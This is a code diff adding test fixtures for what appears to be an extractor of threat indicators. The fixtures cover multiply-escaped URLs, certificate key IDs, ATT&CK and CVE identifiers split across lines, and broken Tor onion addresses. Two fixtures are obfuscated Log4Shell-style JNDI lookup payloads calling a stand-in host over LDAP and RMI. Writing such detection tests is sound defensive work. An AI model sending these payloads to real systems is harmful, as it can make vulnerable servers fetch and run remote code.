@@ -75,4 +75,48 @@ export const UNSEEN_SENTENCES: Readonly<Record<string, readonly Sentence[]>> = {
     ['AS#64496 and AS #64497', 'asn AS64496', 'asn AS64497'],
     ['msgid=20240103.1@mx.evil.com to=jane@evil.com', 'message-id <20240103.1@mx.evil.com>', 'email jane@evil.com'],
   ],
+  'URLs that were escaped more than once': [
+    ['http%253A%252F%252Fevil-host.com%252Fa', 'url http://evil-host.com/a'],
+    ['u=https%25253A%25252F%25252Fevil-host.com%25252Fa%25253Fb%25253D1', 'url https://evil-host.com/a?b=1'],
+    ['u=https%3A%2F%2F25evil.com%2Fa', 'url https://25evil.com/a'],
+    ['100%253A50 and %252F%252Fa'],
+  ],
+  'schemes of which some letters were hidden': [
+    ['\u0024{\u0024{lower:j}ndi:\u0024{lower:l}dap://evil.com/o}', 'url ldap://evil.com/o'],
+    ['\u0024{jndi:\u0024{::-r}mi://evil.com/o}', 'url rmi://evil.com/o'],
+    ['{x}http://evil.com/a', 'url http://evil.com/a'],
+  ],
+  'notes in brackets right behind a host': [
+    ['evil-host.club(down),evil-host2.xyz(live)', 'domain evil-host.club', 'domain evil-host2.xyz'],
+    ['evilhost.com(dead)', 'domain evilhost.com'],
+    ['x.club(y), item.name(a), a-item.name(b)'],
+  ],
+  'identifiers of keys in certificates': [
+    [`subject key identifier ${SHA1}; Authority Key Identifier: ${SHA1}`],
+    [`X509v3 Subject Key Identifier:\n    ${SHA1}`],
+    [`file identifier: ${SHA1}`, `sha1 ${SHA1}`],
+  ],
+  'techniques over the borders of cells': [
+    ['T1059\n.003 Windows Command Shell, T1547\r\n  .001, T1566/.001', 'attack-id T1059.003', 'attack-id T1547.001', 'attack-id T1566.001'],
+    ['TA0001Initial Access T1566.001Spearphishing T1105Ingress', 'attack-id TA0001', 'attack-id T1566.001', 'attack-id T1105'],
+    ['T1059. 005, T1059/001/x and T1059.001X', 'attack-id T1059'],
+    ['T1059/.001/.002', 'attack-id T1059.001', 'attack-id T1059.002'],
+    ['CVE-2021-44228CVE-2021-45046 CVE-2021-44229CVEs', 'cve CVE-2021-44228', 'cve CVE-2021-45046', 'cve CVE-2021-44229'],
+  ],
+  'addresses as low as versions behind a host': [
+    ['Domain IP\nevil-host.club 45.9.9.1 2023-01-01', 'domain evil-host.club', 'ipv4 45.9.9.1'],
+    ['c2.evil.com 23.1.2.9, evil2.xyz 5.6.7.9', 'hostname c2.evil.com', 'ipv4 23.1.2.9', 'domain evil2.xyz', 'ipv4 5.6.7.9'],
+    ['node.js 2.1.2.9, socket.io 2.0.1.3, asp.net 4.0.3.1 and Outlook.com 1.2.3.5', 'domain outlook.com'],
+  ],
+  'services of Tor over two lines': [
+    [
+      'Tor: an5ov2xuxpzg3wv6ojlkqkknyuw2jdkxlijepnoc\nlggepxt25ov7bdad.onion',
+      'onion an5ov2xuxpzg3wv6ojlkqkknyuw2jdkxlijepnoclggepxt25ov7bdad.onion',
+    ],
+    [
+      'an5ov2xuxpzg3wv6ojlkqkknyuw2jdkxlijepnoclggepx\r\nt25ov7bdad[.]onion',
+      'onion an5ov2xuxpzg3wv6ojlkqkknyuw2jdkxlijepnoclggepxt25ov7bdad.onion',
+    ],
+    ['services\nlggepxt25ov7bdad.onion', 'onion lggepxt25ov7bdad.onion'],
+  ],
 };
